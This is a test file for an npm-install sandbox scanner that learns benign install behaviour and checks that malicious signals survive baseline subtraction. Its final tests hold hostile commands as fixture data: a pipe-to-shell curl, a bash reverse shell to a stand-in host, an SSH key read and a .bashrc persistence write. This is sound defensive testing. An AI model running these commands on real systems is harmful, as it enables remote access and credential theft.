import { describe, expect, it } from 'vitest';
import type { SandboxReport } from '@airlock/core';
import {
  baselineFromFile,
  baselineFromReports,
  emptyBaseline,
  isBaselineFile,
  learnBaseline,
  mergeBaselines,
  pathPattern,
  programSignature,
  scoreReport,
  signaturesOf,
  type BaselineFile,
} from '../src/index.js';
import { connect, dns, HOME, proc, reportWith, script, sensitive, T0, tcp, write } from './helpers.js';

const honeytokenLeak = (destination: string) => ({
  tokenId: 't1',
  kind: 'npm-token' as const,
  channel: 'http' as const,
  destination,
  encoding: 'base64' as const,
  time: T0 + 5,
});

const rules = (v: ReturnType<typeof scoreReport>) => v.reasons.map((r) => r.rule);

/** A benign install: a helper shell under the install script, a lookup of its download host, and a prebuilt binary fetched into its folder and run. */
function benignRun(name: string, over: { host?: string; shell?: string } = {}): SandboxReport {
  const pkg = `${HOME}/projects/app/node_modules/${name}`;
  const install = proc(['node', 'install.js'], { pid: 40, time: T0 + 1, attribution: script('install', 'node install.js') });
  const shell = proc(['/bin/sh', '-c', over.shell ?? 'uname -m'], {
    pid: 41,
    ppid: 40,
    time: T0 + 2,
    path: '/bin/sh',
    attribution: script('install', 'node install.js'),
  });
  const run = proc([`${pkg}/bin/tool-1.2.3`, 'build'], { pid: 42, time: T0 + 4, path: `${pkg}/bin/tool-1.2.3` });
  return reportWith({
    package: { ...reportWith({}).package, name },
    processes: [install, shell, run, proc(['npm', 'ci'], { attribution: null })],
    fileWrites: [
      write(`${pkg}/bin/tool-1.2.3`, { pid: 40, time: T0 + 3, normalizedPath: '<PKG>/bin/tool-1.2.3' }),
      write(`${pkg}/index.js`, { pid: 1, normalizedPath: '<PKG>/index.js' }),
    ],
    connections: [connect(40, 443)],
    network: { dns: [dns(over.host ?? 'Downloads.Example.org')], tcp: [tcp('downloads.example.org', 443, { protocol: 'tls' })], udp: [] },
  });
}

describe('signatures', () => {
  it('generalises a path: any package folder, name parts with digits, mixed-case temp suffixes', () => {
    expect(pathPattern('<PKG>/bin/tool-1.2.3')).toBe('<NODE_PKG>/bin/tool-<N>.<N>.<N>');
    expect(pathPattern('<HOME>/projects/app/node_modules/@scope/dep/build/Release/addon.node')).toBe('<NODE_PKG>/build/Release/addon.node');
    expect(pathPattern('<HOME>/projects/app/node_modules/.bin/tool')).toBe('<HOME>/projects/app/node_modules/.bin/tool');
    expect(pathPattern('<TMP>/node-compile-cache/v22.23.3-x64-9de703df-1000/1c729f56.VZbAUs')).toBe(
      '<TMP>/node-compile-cache/<N>.<N>.<N>-<N>-<N>-<N>/<N>.<N>',
    );
    expect(pathPattern('<HOME>/.cache/puppeteer/chrome')).toBe('<HOME>/.cache/puppeteer/chrome');
  });

  it('keeps enough of a process that learning one use never whitelists the program', () => {
    expect(programSignature({ path: '/bin/sh', argv: ['sh', '-c', 'FOO=1 uname -m'] })).toBe('sh -c uname');
    expect(programSignature({ path: '/usr/bin/python3.11', argv: ['python3', '-c', 'import sys'] })).toBe('python3 -c');
    expect(
      programSignature({ path: '/usr/bin/python3.11', argv: ['python3', '/home/jordan/projects/app/node_modules/x/gyp/gyp_main.py', 'a'] }),
    ).toBe('python3 <NODE_PKG>/gyp/gyp_main.py');
    expect(programSignature({ path: '/usr/bin/python3', argv: ['python3', '-m', 'pip', 'install'] })).toBe('python3 -m pip');
    expect(programSignature({ path: '/usr/bin/curl', argv: ['curl', '-fsSL', 'https://GitHub.com/a/b/releases/x.tgz'] })).toBe(
      'curl github.com',
    );
  });

  it("takes from a run only what the noise rules would report: not npm's own writes or shells, not fake addresses", () => {
    const s = signaturesOf(benignRun('alpha'));
    expect([...s.writtenPaths]).toEqual(['<NODE_PKG>/bin/tool-<N>.<N>.<N>']);
    expect([...s.programs]).toEqual(['sh -c uname']);
    expect([...s.hosts]).toEqual(['downloads.example.org']);
    // A fake-internet address (one per name per run) or a literal IP seen once says nothing across runs.
    const raw = reportWith({
      network: {
        dns: [],
        tcp: [tcp(null, 443), tcp(null, 443, { destination: { address: '203.0.113.9', port: 443, hostname: null } })],
        udp: [],
      },
    });
    expect([...signaturesOf(raw).hosts]).toEqual(['203.0.113.9']);
  });
});

describe('learnBaseline', () => {
  it('keeps a signature only when at least minPackages distinct packages showed it, with its support', () => {
    const learned = learnBaseline([
      { packageName: 'alpha', signatures: signaturesOf(benignRun('alpha', { host: 'cdn.alpha.test' })) },
      { packageName: 'beta', signatures: signaturesOf(benignRun('beta', { host: 'cdn.beta.test' })) },
    ]);
    expect(learned.thresholds).toEqual({ minPackages: 2 });
    expect(learned.packages).toBe(2);
    expect(learned.hosts).toEqual([{ value: 'downloads.example.org', packages: 2, seenIn: ['alpha', 'beta'] }]);
    expect(learned.programs).toEqual([{ value: 'sh -c uname', packages: 2, seenIn: ['alpha', 'beta'] }]);
    expect(learned.writtenPaths.map((e) => e.value)).toEqual(['<NODE_PKG>/bin/tool-<N>.<N>.<N>']);
    expect(learned.belowThreshold.hosts).toEqual([
      { value: 'cdn.alpha.test', packages: 1, seenIn: ['alpha'] },
      { value: 'cdn.beta.test', packages: 1, seenIn: ['beta'] },
    ]);
  });

  it('counts a package once however many runs or repeats it has: one package never whitelists a host', () => {
    const learned = learnBaseline([
      { packageName: 'alpha', signatures: signaturesOf(benignRun('alpha')) },
      { packageName: 'alpha', signatures: signaturesOf(benignRun('alpha')) },
    ]);
    expect(learned.packages).toBe(1);
    expect(learned.hosts).toEqual([]);
    expect(learned.belowThreshold.hosts.map((e) => [e.value, e.packages])).toEqual([['downloads.example.org', 1]]);
    // With the threshold lowered to 1 it would have been kept: the threshold is what refuses it.
    expect(
      learnBaseline([{ packageName: 'alpha', signatures: signaturesOf(benignRun('alpha')) }], { minPackages: 1 }).hosts.map((e) => e.value),
    ).toEqual(['downloads.example.org']);
  });

  it('honours a higher threshold', () => {
    const runs = ['a', 'b'].map((n) => ({ packageName: n, signatures: signaturesOf(benignRun(n)) }));
    expect(learnBaseline(runs, { minPackages: 3 }).hosts).toEqual([]);
  });

  it('is deterministic whatever the order of runs', () => {
    const runs = ['c', 'a', 'b'].map((n) => ({ packageName: n, signatures: signaturesOf(benignRun(n)) }));
    expect(learnBaseline(runs)).toEqual(learnBaseline([...runs].reverse()));
  });
});

describe('baseline in scoring', () => {
  const learned = learnBaseline(['alpha', 'beta'].map((n) => ({ packageName: n, signatures: signaturesOf(benignRun(n)) })));
  const file: BaselineFile = {
    format: 'airlock-baseline/1',
    ecosystem: 'npm',
    provenance: {
      createdAt: '2026-11-24T00:00:00.000Z',
      command: 'airlock baseline learn corpus.json',
      corpora: [{ file: 'corpus.json', sha256: 'x' }],
      split: { name: 'train', rule: 'r', samples: 2 },
      runs: { ok: 2, failed: [] },
      images: [],
      control: null,
      results: 'r.json',
    },
    ...learned,
  };

  it('starts empty and merges sorted and deduplicated', () => {
    expect(emptyBaseline()).toEqual({ writtenPaths: [], programs: [], hosts: [] });
    expect(
      mergeBaselines(
        { writtenPaths: ['b'], programs: [], hosts: ['y', 'x'] },
        { writtenPaths: ['a', 'b'], programs: ['sh -c a'], hosts: ['x'] },
      ),
    ).toEqual({ writtenPaths: ['a', 'b'], programs: ['sh -c a'], hosts: ['x', 'y'] });
  });

  it('reads a learned file into a baseline and rejects other shapes', () => {
    expect(isBaselineFile(JSON.parse(JSON.stringify(file)))).toBe(true);
    expect(isBaselineFile({ ...file, format: 'other' })).toBe(false);
    expect(isBaselineFile({ ...file, hosts: [{ value: 'x' }] })).toBe(false);
    expect(baselineFromFile(file)).toEqual({
      writtenPaths: ['<NODE_PKG>/bin/tool-<N>.<N>.<N>'],
      programs: ['sh -c uname'],
      hosts: ['downloads.example.org'],
    });
  });

  it('subtracts learned signatures from a new package (another name, another version), not other uses of the program', () => {
    const candidate = benignRun('gamma');
    const bare = scoreReport(candidate);
    expect(rules(bare)).toEqual(['download-execute.own-folder', 'lifecycle-shell', 'network-egress']);
    expect(rules(scoreReport(candidate, { baseline: baselineFromFile(file) }))).toEqual([]);
    expect(scoreReport(candidate, { baseline: baselineFromFile(file) })).toMatchObject({ verdict: 'benign', score: 0, reasons: [] });
    const otherShell = benignRun('gamma', { shell: 'whoami' });
    expect(rules(scoreReport(otherShell, { baseline: baselineFromFile(file) }))).toEqual(['lifecycle-shell']);
  });

  it('still accepts a bare program name, which matches every use', () => {
    const v = scoreReport(benignRun('gamma', { shell: 'whoami' }), { baseline: { writtenPaths: [], programs: ['sh'], hosts: [] } });
    expect(rules(v)).not.toContain('lifecycle-shell');
  });

  it('the control run (no package code) contributes only what the rules would flag: nothing for a quiet empty install', () => {
    const control = reportWith({
      processes: [proc(['npm', 'ci'], { attribution: null })],
      fileWrites: [write(`${HOME}/.npm/_logs/x-debug-0.log`, { pid: 1 })],
    });
    expect(baselineFromReports([control])).toEqual(emptyBaseline());
    const noisyImage = reportWith({ network: { dns: [dns('registry.npmjs.org')], tcp: [], udp: [] } });
    expect(baselineFromReports([noisyImage]).hosts).toEqual(['registry.npmjs.org']);
  });

  it('never subtracts proof: exfiltration, credential reads, pipe-to-shell, reverse shells and persistence fire on learned hosts and paths', () => {
    const everything = {
      writtenPaths: [pathPattern(`<HOME>/.bashrc`), '<HOME>/.bashrc'],
      programs: ['sh', 'bash', 'curl', 'python3'],
      hosts: ['downloads.example.org', 'registry.npmjs.org'],
    };
    const v = scoreReport(
      reportWith({
        processes: [
          proc(['sh', '-c', 'curl https://registry.npmjs.org/x | sh']),
          proc(['bash', '-c', 'bash -i >& /dev/tcp/downloads.example.org/4444 0>&1']),
        ],
        sensitiveFiles: [sensitive('ssh', `${HOME}/.ssh/id_rsa`)],
        fileWrites: [write(`${HOME}/.bashrc`, { operation: 'write' })],
        honeytokens: { planted: [], accessed: [], exfiltrated: [honeytokenLeak('downloads.example.org')] },
      }),
      { baseline: everything },
    );
    expect(rules(v)).toEqual(
      expect.arrayContaining(['honeytoken-exfiltration', 'pipe-to-shell', 'reverse-shell.command', 'credential-access', 'persistence']),
    );
    expect(v.verdict).toBe('malicious');
  });

  it('persistence is not subtracted even when its path was learned', () => {
    const bashrc = write(`${HOME}/.bashrc`, { operation: 'write' });
    const v = scoreReport(reportWith({ fileWrites: [bashrc] }), {
      baseline: { writtenPaths: [bashrc.normalizedPath, pathPattern(bashrc.normalizedPath)], programs: [], hosts: [] },
    });
    expect(rules(v)).toEqual(['persistence']);
  });
});
